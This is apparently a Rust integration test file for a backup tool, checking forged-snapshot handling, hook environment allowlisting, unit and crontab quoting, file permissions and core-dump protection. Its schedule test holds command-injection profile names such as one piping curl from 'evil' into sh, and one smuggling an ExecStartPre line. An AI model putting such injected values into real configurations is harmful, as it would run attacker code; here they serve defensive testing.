//! A hostile snapshot, environment or name meets vault: `dump` of a forged node, hooks in
//! an environment full of secrets, profile names and paths that would be code in a unit
//! or crontab line, other local users next to a repository, and core dumps of a process
//! holding the key.

mod common;

use std::fs;
use std::io::{Read, Write};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{Env, PASSWORD};
use vault::format::Id;
use vault::format::pack::{BlobType, seal_blob};
use vault::format::tree::Tree;
use vault::repo::packer::Packer;
use vault::repo::{Backend, Repository, Secret};

// ---- dump ----

/// Rewrites the tree `id` so that the node at `path` (names below this tree) gets
/// `extents`; returns the new tree's id. What a key holder's crafted client can write.
fn forge_extents(
    repo: &Repository,
    packer: &Packer,
    id: &Id,
    path: &[&[u8]],
    extents: &[[u64; 2]],
) -> Id {
    let mut tree: Tree = repo.load_tree(id).unwrap();
    let node = tree
        .nodes
        .iter_mut()
        .find(|n| n.name.0 == path[0])
        .expect("the path is in the snapshot");
    if path.len() == 1 {
        node.extents = Some(extents.to_vec());
    } else {
        let sub = node.subtree.expect("a directory");
        node.subtree = Some(forge_extents(repo, packer, &sub, &path[1..], extents));
    }
    let bytes = tree.encode();
    let new = repo.keys.blob_id(BlobType::Tree as u8, &bytes);
    packer
        .add(seal_blob(&repo.keys, BlobType::Tree, new, &bytes, 3))
        .unwrap();
    new
}

/// A snapshot of `file` (200 000 bytes) whose node has `extents`; returns its id.
fn forged_snapshot(env: &Env, file: &Path, extents: &[[u64; 2]]) -> String {
    let backend = Backend::open(env.repo().to_str().unwrap()).unwrap();
    let mut repo = Repository::open(backend, &Secret::Password(PASSWORD.into())).unwrap();
    repo.cache = None;
    repo.load_index().unwrap();
    let (_, snap) = repo.snapshots().unwrap().pop().unwrap();
    let mut snap = snap.unwrap();
    let names: Vec<&[u8]> = file.iter().skip(1).map(|c| c.as_encoded_bytes()).collect();
    let packer = Packer::new(&repo.backend, &repo.keys, 1 << 20, false);
    snap.tree = forge_extents(&repo, &packer, &snap.tree, &names, extents);
    packer.finish().unwrap();
    repo.save_snapshot(&snap).unwrap().to_hex()
}

/// Runs `vault dump` reading at most `limit + 1` bytes of its output for 20 s, then kills
/// it; returns (exit code if it ended, bytes written, stderr).
fn bounded_dump(env: &Env, snapshot: &str, file: &Path, limit: u64) -> (Option<i32>, u64, String) {
    let mut child = env
        .cmd()
        .args(["dump", snapshot, file.to_str().unwrap()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut n = 0u64;
        let mut buf = vec![0u8; 1 << 16];
        while let Ok(k) = out.read(&mut buf) {
            if k == 0 || n > limit {
                break;
            }
            n += k as u64;
        }
        n
    });
    let start = Instant::now();
    while child.try_wait().unwrap().is_none()
        && !reader.is_finished()
        && start.elapsed() < Duration::from_secs(20)
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    // The reader stops at EOF (the process is ending) or once past the size; a process
    // past the size, or still writing after 20 s, is the wrap-around and is killed.
    let ended = reader.is_finished() || child.try_wait().unwrap().is_some();
    let n = if ended {
        reader.join().unwrap()
    } else {
        u64::MAX
    };
    let code = if ended && n <= limit {
        child.wait().unwrap().code()
    } else {
        let _ = child.kill();
        let _ = child.wait();
        None
    };
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    (code, n, err)
}

#[test]
fn dump_refuses_a_node_with_out_of_order_or_overlapping_extents() {
    let env = Env::new();
    env.init(&[]);
    let src = env.source_with_file(common::bytes(7, 200_000));
    env.ok(&["backup", "-q", src.to_str().unwrap()]);
    let file = src.join("f");
    let size = 200_000;
    for extents in [
        vec![[100_000, 1_000], [0, 1_000]], // out of order: `off - pos` wrapped
        vec![[0, 1_000], [500, 1_000]],     // overlapping
        vec![[0, 1_000], [199_500, 1_000]], // past the size
        vec![[u64::MAX, 2]],                // past the end of numbers
    ] {
        let id = forged_snapshot(&env, &file, &extents);
        let started = Instant::now();
        let (code, written, err) = bounded_dump(&env, &id, &file, size);
        assert!(written <= size, "{extents:?}: dump wrote {written} bytes");
        assert_eq!(code, Some(1), "{extents:?}: {err}");
        assert!(started.elapsed() < Duration::from_secs(15), "{extents:?}");
        assert!(
            err.contains(file.to_str().unwrap()) && err.contains("damaged tree node"),
            "{extents:?}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
    }
    // A sound layout still dumps: two extents with a hole before, between and after.
    let id = forged_snapshot(&env, &file, &[[10, 5_000], [50_000, 20_000]]);
    let (code, written, err) = bounded_dump(&env, &id, &file, size);
    assert_eq!((code, written), (Some(0), size), "{err}");
}

// ---- hooks ----

#[test]
fn hooks_see_only_the_allowlisted_environment() {
    let env = Env::new();
    env.init(&[]);
    let src = env.source_with_file("data");
    let key_file = env.path("raw.key");
    let secrets = [
        ("VAULT_PASSWORD", PASSWORD.to_string()),
        ("AWS_SECRET_ACCESS_KEY", "aws-secret-4d1f".into()),
        ("AWS_ACCESS_KEY_ID", "AKIA-4d1f".into()),
        ("VAULT_PASSWORD_FILE_CONTENT", "file-secret-77aa".into()),
        ("NIGHTLY_DB_TOKEN", "profile-token-90ce".into()),
        ("VAULT_KEY_FILE_X", key_file.display().to_string()),
        ("VAULT_WEBDAV_PASSWORD", "webdav-secret-1b2c".into()),
        (
            "VAULT_MIRROR_OFFSITE_AWS_SECRET_ACCESS_KEY",
            "mirror-5e6f".into(),
        ),
    ];
    for (hook, args) in [
        ("--before", vec!["backup", "-q", src.to_str().unwrap()]),
        ("--on-success", vec!["backup", "-q", src.to_str().unwrap()]),
        (
            "--on-failure",
            vec!["backup", "-q", "/nonexistent-source-3a9b"],
        ),
    ] {
        let seen = env.path("hook-env");
        let _ = fs::remove_file(&seen);
        let mut cmd = env.cmd();
        cmd.arg(hook)
            .arg(format!("env > '{}'", seen.display()))
            .args(&args)
            .env("LANG", "C.UTF-8")
            .env("LC_TIME", "C")
            .env("TZ", "UTC")
            .env("USER", "tester")
            .env("LOGNAME", "tester")
            .env("OTHER_HARMLESS", "x");
        for (k, v) in &secrets {
            cmd.env(k, v);
        }
        let _ = cmd.output().unwrap();
        let text = fs::read_to_string(&seen).expect("the hook ran");
        for (k, v) in &secrets {
            assert!(
                !text.contains(v.as_str()),
                "{hook}: {k}'s value reached it:\n{text}"
            );
        }
        let allowed = [
            "PATH",
            "HOME",
            "USER",
            "LOGNAME",
            "LANG",
            "TZ",
            "VAULT_COMMAND",
            "VAULT_EXIT_CODE",
            "VAULT_MESSAGE",
            // What sh sets itself.
            "PWD",
            "SHLVL",
            "_",
            "OLDPWD",
        ];
        for line in text.lines().filter(|l| l.contains('=')) {
            let name = line.split('=').next().unwrap_or_default();
            assert!(
                allowed.contains(&name) || name.starts_with("LC_"),
                "{hook}: {name} reached the hook:\n{text}"
            );
        }
        for name in [
            "VAULT_COMMAND=backup",
            "LANG=C.UTF-8",
            "LC_TIME=C",
            "TZ=UTC",
        ] {
            assert!(text.contains(name), "{hook}: {name} missing:\n{text}");
        }
    }
}

// ---- schedule ----

fn write_config(env: &Env, config: &Path, profile_toml_key: &str) {
    fs::create_dir_all(config.parent().unwrap()).unwrap();
    fs::write(
        config,
        format!(
            "[profiles.{profile_toml_key}]\nrepository = \"{}\"\nsources = [\"/etc\"]\n",
            env.repo().display()
        ),
    )
    .unwrap();
}

#[test]
fn schedule_refuses_profile_names_that_would_be_code() {
    let env = Env::new();
    let units = env.path("units");
    for (key, name) in [
        ("\"x; curl evil|sh\"", "x; curl evil|sh"),
        (
            "\"a\\nExecStartPre=/bin/evil\"",
            "a\nExecStartPre=/bin/evil",
        ),
        ("\"../escape\"", "../escape"),
        ("\"-rf\"", "-rf"),
        ("\"50%\"", "50%"),
    ] {
        let config = env.path("vault.toml");
        write_config(&env, &config, key);
        let c = config.to_str().unwrap();
        for extra in [vec!["--unit-dir", units.to_str().unwrap()], vec!["--cron"]] {
            let mut args = vec!["--config", c, "schedule", "install"];
            args.extend(&extra);
            args.extend(["--", name]);
            let out = env.run(&args);
            let err = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(2), "{name:?}: {err}");
            assert!(out.stdout.is_empty(), "{name:?}: printed a crontab line");
            assert!(
                err.contains("letters, digits") && err.lines().count() == 1,
                "{err}"
            );
            assert!(!units.exists(), "{name:?}: units were written");
        }
        assert!(!env.path("escape.timer").exists());
    }
}

/// systemd's reading of an ExecStart= value: words split on blanks, double or single
/// quotes with C escapes, `%%` a literal `%`, `$$` a literal `$` (and any other `%x` or
/// `$X` would be a specifier or variable, which the writer must never leave).
fn systemd_argv(line: &str) -> Vec<String> {
    let mut argv = Vec::new();
    let mut chars = line.chars().peekable();
    loop {
        while chars.peek().is_some_and(|c| *c == ' ' || *c == '\t') {
            chars.next();
        }
        if chars.peek().is_none() {
            return argv;
        }
        let mut word = String::new();
        let mut quote: Option<char> = None;
        while let Some(c) = chars.next() {
            match (c, quote) {
                ('"' | '\'', None) => quote = Some(c),
                (q, Some(open)) if q == open => quote = None,
                (' ' | '\t', None) => break,
                ('\\', _) => match chars.next().expect("an escape") {
                    'n' => word.push('\n'),
                    't' => word.push('\t'),
                    'x' => {
                        let hex: String = [chars.next().unwrap(), chars.next().unwrap()]
                            .iter()
                            .collect();
                        word.push(u8::from_str_radix(&hex, 16).unwrap() as char);
                    }
                    e @ ('\\' | '"' | '\'' | ' ') => word.push(e),
                    e => panic!("unknown escape \\{e} in {line}"),
                },
                ('%', _) => {
                    assert_eq!(chars.next(), Some('%'), "a specifier left in {line}");
                    word.push('%');
                }
                ('$', _) => {
                    assert_eq!(chars.next(), Some('$'), "a variable left in {line}");
                    word.push('$');
                }
                (c, _) => word.push(c),
            }
        }
        assert!(quote.is_none(), "an unclosed quote in {line}");
        argv.push(word);
    }
}

/// A directory whose name holds what quoting must survive.
const AWKWARD: &str = "dir with space %h 100% $HOME 'single' \"double\" back\\slash ; x";
/// systemd runs no program whose path holds a quote, a backslash or a `$`: the rest.
const AWKWARD_BIN: &str = "bin dir %h 100% ; x";

#[test]
fn schedule_quotes_paths_in_units_and_crontab_lines() {
    let env = Env::new();
    let dir = env.path(AWKWARD);
    fs::create_dir_all(&dir).unwrap();
    // The vault binary itself at an awkward path: its path goes into the units too.
    let bin = env.path(AWKWARD_BIN);
    fs::create_dir_all(&bin).unwrap();
    let exe = bin.join("vault %i");
    fs::copy(env!("CARGO_BIN_EXE_vault"), &exe).unwrap();
    let config = dir.join("my vault.toml");
    write_config(&env, &config, "\"night.ly-1\"");
    let units = env.path("units");
    let expected = vec![
        exe.display().to_string(),
        "--config".to_string(),
        config.display().to_string(),
        "run".to_string(),
        "night.ly-1".to_string(),
    ];
    let run = |extra: &[&str]| {
        let out = Command::new(&exe)
            .env_clear()
            .envs(
                env.cmd()
                    .get_envs()
                    .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned()))),
            )
            .args(["--config", config.to_str().unwrap(), "schedule", "install"])
            .args(["night.ly-1", "--at", "04:05"])
            .args(extra)
            .output()
            .unwrap();
        common::assert_ok(&out);
        String::from_utf8(out.stdout).unwrap()
    };

    run(&["--unit-dir", units.to_str().unwrap()]);
    let service_path = units.join("vault-night.ly-1.service");
    let service = fs::read_to_string(&service_path).unwrap();
    let exec = service
        .lines()
        .find_map(|l| l.strip_prefix("ExecStart="))
        .expect("an ExecStart line");
    assert_eq!(systemd_argv(exec), expected, "{exec}");
    assert_eq!(
        service.lines().filter(|l| l.contains('=')).count(),
        7,
        "{service}"
    );
    let analyze = Command::new("systemd-analyze")
        .args(["verify", service_path.to_str().unwrap()])
        .output();
    if let Ok(out) = analyze {
        // systemd itself reads the unit: the executable must be found at the path given.
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!err.contains("not executable"), "{err}");
        assert!(!err.contains("vault-night.ly-1.service:"), "{err}");
    }

    let line = run(&["--cron"]);
    let line = line.trim_end();
    assert!(line.starts_with("5 4 * * * "), "{line}");
    assert!(!line.contains('\n'));
    let command = line.splitn(6, ' ').nth(5).unwrap();
    // cron's own rule: an unescaped `%` ends the command; `\%` is a literal `%`.
    let mut shell = String::new();
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('%') => shell.push('%'),
                Some(n) => {
                    shell.push('\\');
                    shell.push(n);
                }
                None => shell.push('\\'),
            },
            '%' => panic!("an unescaped % in the crontab line: {line}"),
            c => shell.push(c),
        }
    }
    // The same path, now a program that prints its arguments.
    fs::write(&exe, "#!/bin/sh\nprintf '%s\\0' \"$0\" \"$@\"\n").unwrap();
    let out = Command::new("sh").args(["-c", &shell]).output().unwrap();
    common::assert_ok(&out);
    let argv: Vec<String> = String::from_utf8(out.stdout)
        .unwrap()
        .split_terminator('\0')
        .map(String::from)
        .collect();
    assert_eq!(argv, expected, "{line}");
}

// ---- file modes ----

/// Every directory and file under `root` (root included), with its mode.
fn modes(root: &Path) -> Vec<(PathBuf, u32, bool)> {
    let mut out = Vec::new();
    let mut todo = vec![root.to_path_buf()];
    while let Some(p) = todo.pop() {
        let md = fs::symlink_metadata(&p).unwrap();
        out.push((p.clone(), md.mode(), md.is_dir()));
        if md.is_dir() {
            todo.extend(fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        }
    }
    out
}

fn assert_modes(root: &Path, dir_mode: u32, file_mode: u32) {
    let all = modes(root);
    assert!(all.len() > 2, "{all:?}");
    for (p, mode, is_dir) in all {
        let want = if is_dir { dir_mode } else { file_mode };
        assert_eq!(mode & 0o777, want, "{}: {:o}", p.display(), mode);
    }
}

#[test]
fn a_local_repository_and_its_cache_are_private() {
    let env = Env::new();
    env.init(&[]);
    let src = env.source_with_file(common::bytes(3, 300_000));
    env.ok(&["backup", "-q", src.to_str().unwrap()]);
    assert_modes(&env.repo(), 0o700, 0o600);
    assert_modes(&env.path("cache"), 0o700, 0o600);

    // A repository made in an existing directory open to everyone (0755): what vault
    // writes inside is private; the directory's own mode is its owner's choice.
    let open = env.path("open-repo");
    fs::create_dir(&open).unwrap();
    fs::set_permissions(&open, fs::Permissions::from_mode(0o755)).unwrap();
    let repo = open.to_str().unwrap();
    env.ok(&["--repo", repo, "init"]);
    env.ok(&["--repo", repo, "backup", "-q", src.to_str().unwrap()]);
    for (p, mode, is_dir) in modes(&open).into_iter().skip(1) {
        let want = if is_dir { 0o700 } else { 0o600 };
        assert_eq!(mode & 0o777, want, "{}: {:o}", p.display(), mode);
    }
}

#[test]
fn a_repository_shared_with_a_group_stays_group_readable() {
    let env = Env::new();
    let repo = env.repo();
    fs::create_dir(&repo).unwrap();
    fs::set_permissions(&repo, fs::Permissions::from_mode(0o2770)).unwrap();
    env.init(&[]);
    let src = env.source_with_file(common::bytes(4, 300_000));
    env.ok(&["backup", "-q", src.to_str().unwrap()]);
    for (p, mode, is_dir) in modes(&repo).into_iter().skip(1) {
        if is_dir {
            assert_eq!(mode & 0o7777, 0o2750, "{}: {:o}", p.display(), mode);
        } else {
            assert_eq!(mode & 0o777, 0o640, "{}: {:o}", p.display(), mode);
        }
    }
    // The cache is the user's own, whatever the repository.
    assert_modes(&env.path("cache"), 0o700, 0o600);
}

// ---- core dumps ----

/// `vault backup --stdin` holding the key while it waits for its input.
fn holding_the_key(env: &Env, uid: Option<u32>) -> std::process::Child {
    // Its cache directory, which `init` made, is made again once this process opens the
    // repository.
    for e in fs::read_dir(env.path("cache")).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            fs::remove_dir_all(p).unwrap();
        }
    }
    let mut cmd = env.cmd();
    if let Some(uid) = uid {
        use std::os::unix::process::CommandExt;
        cmd.uid(uid).gid(uid);
    }
    let mut child = cmd
        .args(["backup", "--stdin", "--stdin-filename", "held"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.as_mut().unwrap().write_all(b"some").unwrap();
    // The repository's cache directory appears once its config is open: the key is
    // derived, and the backup waits for the rest of its input.
    let start = Instant::now();
    let opened = || {
        fs::read_dir(env.path("cache"))
            .is_ok_and(|mut rd| rd.any(|e| e.is_ok_and(|e| e.path().is_dir())))
    };
    while !opened() {
        assert!(start.elapsed() < Duration::from_secs(30), "never opened");
        std::thread::sleep(Duration::from_millis(20));
    }
    child
}

fn finish(mut child: std::process::Child) {
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    common::assert_ok(&out);
}

#[test]
fn a_process_holding_the_key_cannot_dump_core_or_be_read() {
    let env = Env::new();
    let root = nix::unistd::geteuid().is_root();
    // As root, the process runs as `nobody`: root may read any process, so what shows is
    // the owner of the files in /proc/PID, root for a process that is not dumpable.
    let uid = root.then_some(65534);
    if root {
        for p in [env.dir.path().to_path_buf(), env.repo(), env.path("cache")] {
            fs::create_dir_all(&p).unwrap();
            let (u, g) = (
                nix::unistd::Uid::from_raw(65534),
                nix::unistd::Gid::from_raw(65534),
            );
            nix::unistd::chown(&p, Some(u), Some(g)).unwrap();
        }
    }
    let mut init = env.cmd();
    if let Some(uid) = uid {
        use std::os::unix::process::CommandExt;
        init.uid(uid).gid(uid);
    }
    common::assert_ok(&init.arg("init").output().unwrap());

    let child = holding_the_key(&env, uid);
    let pid = child.id();
    let limits = fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap()
        .split_whitespace()
        .skip(4)
        .take(2)
        .collect::<Vec<_>>();
    assert_eq!(core, ["0", "0"], "{limits}");
    if root {
        let owner = fs::metadata(format!("/proc/{pid}/environ")).unwrap().uid();
        assert_eq!(
            owner, 0,
            "a dumpable process's /proc files belong to its user"
        );
    } else {
        let environ = fs::read(format!("/proc/{pid}/environ"));
        assert!(
            environ.is_err(),
            "its environment (and so its memory) is readable by its user's other processes"
        );
    }
    finish(child);
}
